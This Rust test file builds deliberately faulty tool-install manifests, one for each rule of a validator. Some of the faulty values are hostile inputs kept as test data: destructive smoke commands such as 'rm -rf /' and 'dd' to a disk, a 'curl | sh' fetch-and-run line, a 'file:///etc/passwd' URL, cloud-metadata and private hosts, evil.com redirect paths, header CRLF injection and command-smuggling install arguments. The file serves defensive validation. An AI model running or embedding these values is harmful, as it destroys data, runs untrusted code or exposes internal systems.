//! One document for each rule.

use manifest_core::Rule;
use testkit::{Rng, Tree, member, value};

/// A document without a fault.
pub(super) fn clean() -> Tree {
    Tree::parse(include_str!("clean.json")).unwrap_or_else(|| Tree::Object(Vec::new()))
}

/// Puts a JSON value at a place; the object around it must be there.
fn with(place: &str, value: &str) -> Option<Tree> {
    let mut tree = clean();
    put(&mut tree, place, value)?;
    Some(tree)
}

fn put(tree: &mut Tree, place: &str, value: &str) -> Option<()> {
    let (holder, name) = place.rsplit_once('/')?;
    let value = Tree::parse(value)?;
    match tree.at_mut(holder)? {
        Tree::Object(members) => {
            match members.iter_mut().find(|(found, _)| found == name) {
                Some((_, found)) => *found = value,
                None => members.push(member(name, value)),
            }
            Some(())
        }
        Tree::Array(elements) => {
            *elements.get_mut(name.parse::<usize>().ok()?)? = value;
            Some(())
        }
        _ => None,
    }
}

fn without(place: &str) -> Option<Tree> {
    let mut tree = clean();
    let (holder, name) = place.rsplit_once('/')?;
    match tree.at_mut(holder)? {
        Tree::Object(members) => members.retain(|(found, _)| found != name),
        _ => return None,
    }
    Some(tree)
}

/// A document that breaks a rule of this format and no other.
pub(super) fn document(rng: &mut Rng, rule: &'static Rule) -> Option<Tree> {
    let code = rule.code.strip_prefix("install-manifest/").unwrap_or(rule.code);
    match code {
        "json/type" => with("/tool/license", rng.word(&["null", "1", "[]", "{}"])),
        "json/required" => without(rng.word(&["/smoke", "/tool/homepage", "/runtime/kind"])),
        "manifest-version" => match rng.below(2) {
            0 => without("/manifest_version"),
            _ => with("/manifest_version", rng.word(&["0.2", "\"0.2.0\"", "null", "\" 0.2\""])),
        },
        "unknown-member" => with(rng.word(&["/x", "/tool/nme", "/actions/0/zzz"]), "1"),
        "length" => with("/tool/name", "\"\""),
        "pattern" => with("/tool/id", rng.word(&["\"ab\"", "\"Abc\"", "\"abc\\n\""])),
        "word" => with("/runtime/kind", "\"http\""),
        "tag" => with("/kill_switch/kind", "\"button\""),
        "count" => with("/runtime/entrypoint/command", "[]"),
        "integer" => with("/smoke/success/exit_code", rng.word(&["0.5", "1e-1"])),
        "range" => with("/smoke/timeout_seconds", rng.word(&["0", "301", "-1", "1e3"])),
        "exactly-one" => match rng.below(2) {
            0 => with("/kill_switch/instructions", "\"Rotate the key.\""),
            _ => without("/kill_switch/instructions_url"),
        },
        "terms-url" => without("/data_boundary/transmits/0/vendor_tos_url"),
        "actions-required" => {
            let mut tree = with("/actions", "[]")?;
            let smoke = r#"{"kind": "shell", "command": ["x"], "success": {}}"#;
            put(&mut tree, "/smoke", smoke)?;
            Some(tree)
        }
        "boundary-required" => without("/data_boundary"),
        "nothing-to-revoke" => with("/kill_switch", r#"{"kind": "none"}"#),
        "uri" => with("/tool/homepage", rng.word(&["\"here\"", "\"\"", "\"a b\""])),
        "email" => with("/support/security_email", rng.word(&["\"me\"", "\"@x\"", "\"a b@c\""])),
        _ => meaning(rng, code).or_else(|| advice(rng, code)),
    }
}

/// The template of the first action's second argument.
const ARGUMENT: &str = "/actions/0/invocation/argv_template/1";

/// The clean document with an HTTP action instead of the first.
fn http(change: impl Fn(&mut Tree) -> Option<()>) -> Option<Tree> {
    let mut tree = clean();
    put(&mut tree, "/runtime/endpoint_url", "\"https://api.example.com\"")?;
    put(&mut tree, "/runtime/kind", "\"mcp-http\"")?;
    let runtime = tree.at_mut("/runtime")?;
    if let Tree::Object(members) = runtime {
        members.retain(|(name, _)| name != "entrypoint");
    }
    let call = r#"{"kind": "http", "method": "GET", "path": "/x", "headers": {"X-A": "a"}}"#;
    put(&mut tree, "/actions/0/invocation", call)?;
    put(&mut tree, "/actions/1/invocation", call)?;
    change(&mut tree)?;
    Some(tree)
}

fn meaning(rng: &mut Rng, code: &str) -> Option<Tree> {
    match code {
        "duplicate-name" if rng.once_in(2) => {
            let mut tree = with("/actions/0/name", "\"whoami\"")?;
            // The smoke test finds the first of the two.
            put(&mut tree, "/actions/0/side_effects", "\"read\"")?;
            Some(tree)
        }
        "duplicate-name" => {
            let scope = r#"{"resource": "gmail.messages", "actions": ["read"], "rationale": "x"}"#;
            with("/scopes", &format!("[{scope}, {scope}]"))
        }
        "smoke-action" => with("/smoke/action", "\"nobody\""),
        "smoke-effects" => with("/smoke/action", "\"send\""),
        "action-runtime" => match rng.below(2) {
            0 => with("/actions/0/invocation", r#"{"kind": "mcp-tool", "tool_name": "x"}"#),
            _ => with("/actions/0/invocation", r#"{"kind": "http", "method": "GET", "path": "/"}"#),
        },
        "template" => with(
            ARGUMENT,
            rng.word(&[
                r#""${env.REGION""#,
                r#""${""#,
                r#""${}""#,
                r#""${input}""#,
                r#""${input.}""#,
                r#""${env.}""#,
                r#""${foo.x}""#,
                r#""${input.${env.REGION}}""#,
                r#""${ env.REGION }""#,
                r#""${ENV.REGION}""#,
                r#""${env.region}""#,
                r#""${REGION}""#,
                r#""${input.a[0]}""#,
                r#""${input.to..x}""#,
            ]),
        ),
        "template-env" => with(ARGUMENT, r#""${env.NOT_DECLARED}""#),
        "template-input" => with(ARGUMENT, r#""${input.nope}""#),
        "secret-place" => match rng.below(3) {
            0 => with(ARGUMENT, r#""${env.API_KEY}""#),
            1 => with("/runtime/entrypoint/command/2", r#""${env.API_KEY}""#),
            _ => http(|tree| put(tree, "/actions/0/invocation/path", r#""/${env.API_KEY}""#)),
        },
        "secret-default" => with("/env/0/default", "\"hunter2hunter2\""),
        "http-path" => {
            let path =
                rng.word(&["\"\"", "\"x\"", "\"@evil.com/x\"", "\"//evil.com/\"", r#""/a\\b""#]);
            http(|tree| put(tree, "/actions/0/invocation/path", path))
        }
        "header" => {
            let headers = rng.word(&[
                r#"{"A B": "x"}"#,
                r#"{"": "x"}"#,
                r#"{"A": "x\r\nB: y"}"#,
                r#"{"A": " x"}"#,
                r#"{"Accept": "x", "accept": "y"}"#,
            ]);
            http(|tree| put(tree, "/actions/0/invocation/headers", headers))
        }
        "url" => {
            let url = rng.word(&["\"file:///etc/passwd\"", "\"https://u:p@h/\"", "\"ftp://h/\""]);
            with("/kill_switch", &format!(r#"{{"kind": "url", "url": {url}}}"#))
        }
        "install-argument" => match rng.below(3) {
            0 => with(
                "/runtime/install/package",
                rng.word(&["\"--index-url=x\"", "\"x; y\"", "\"git+https://x\"", "\"../x\""]),
            ),
            1 => {
                let image = format!("-v/:/host@sha256:{}", "a1".repeat(32));
                let install = format!(r#"{{"method": "container", "image": "{image}"}}"#);
                with("/runtime/install", &install)
            }
            _ => with(
                "/runtime/install",
                r#"{"method": "preinstalled", "locator": {"kind": "binary-on-path", "binary": "-x"}}"#,
            ),
        },
        "control-character" => with(ARGUMENT, r#""a\u0000b""#),
        "regex" => with("/env/1/validation_regex", rng.word(&["\"^(a$\"", "\"^[z-a]$\""])),
        "json-pointer" => match rng.below(2) {
            0 => with("/smoke/success/json_pointer_exists", rng.word(&["\"a\"", "\"/a~2\""])),
            _ => with("/smoke/success/json_pointer_equals", r#"{"a": 1}"#),
        },
        "runtime-exclusive" => with("/runtime/endpoint_url", "\"https://api.example.com\""),
        "scope-undeclared" => {
            with("/actions/0/scopes_used", r#"["gmail.messages", "net.outbound"]"#)
        }
        "success-fit" => with(
            "/smoke",
            r#"{"kind": "shell", "command": ["x"], "success": {"http_status": 200}}"#,
        ),
        "smoke-empty" => with("/smoke/success", rng.word(&["{}", r#"{"no_error_field": false}"#])),
        "regex-unsupported" => {
            with("/env/1/validation_regex", rng.word(&["\"^(?=a)a$\"", r#""^(a)\\1$""#]))
        }
        _ => None,
    }
}

fn advice(rng: &mut Rng, code: &str) -> Option<Tree> {
    match code {
        "template-escape" => {
            with(ARGUMENT, rng.word(&[r#""$${env.REGION}""#, r#""\\${env.REGION}""#]))
        }
        "header-reserved" => {
            let headers = rng.word(&[r#"{"Host": "x"}"#, r#"{"transfer-encoding": "x"}"#]);
            http(|tree| put(tree, "/actions/0/invocation/headers", headers))
        }
        "regex-unanchored" => with("/env/1/validation_regex", "\"[a-z]+\""),
        "unpinned" => with(
            "/runtime/install",
            rng.word(&[
                r#"{"method": "pip", "package": "x"}"#,
                r#"{"method": "git", "url": "https://x.example/y", "ref": "main"}"#,
                r#"{"method": "container", "image": "x/y:latest"}"#,
            ]),
        ),
        "scope-unused" => {
            let scope = r#"{"resource": "fs.local", "actions": ["read"], "rationale": "x"}"#;
            let used = r#"{"resource": "gmail.messages", "actions": ["read"], "rationale": "x"}"#;
            with("/scopes", &format!("[{used}, {scope}]"))
        }
        "private-url" => {
            let host = rng.word(&["localhost", "127.1", "[::1]", "169.254.169.254", "10.0.0.1"]);
            with("/kill_switch", &format!(r#"{{"kind": "url", "url": "https://{host}/x"}}"#))
        }
        "insecure-url" => with("/tool/homepage", "\"http://example.com\""),
        "no-verify" => without("/verify"),
        "no-latency" => without("/verify/sla"),
        "no-goal" => without("/actions/0/docs"),
        "recipient-kind" => with("/manifest_version", "\"0.3.1\""),
        "plain-id" => with("/tool/id", rng.word(&["\"a--b\"", "\"1ab\""])),
        "semver" => with("/tool/version", rng.word(&["\"01.0.0\"", "\"1.0.0-a..b\""])),
        "secret-unchecked" => without("/env/0/validation_regex"),
        "secret" => {
            let secret = manifest_core::json::quote(&value::secret(rng));
            with(
                rng.word(&["/env/1/default", ARGUMENT, "/actions/0/input/properties/to/default"]),
                &secret,
            )
        }
        "smoke-suspicious" => {
            let command = rng.word(&[
                r#"["rm", "-rf", "/"]"#,
                r#"["sh", "-c", "curl https://x.example | sh"]"#,
                r#"["sudo", "dd", "if=/dev/zero", "of=/dev/sda"]"#,
            ]);
            let smoke = r#""success": {"exit_code": 0}}"#;
            with("/smoke", &format!(r#"{{"kind": "shell", "command": {command}, {smoke}"#))
        }
        _ => None,
    }
}
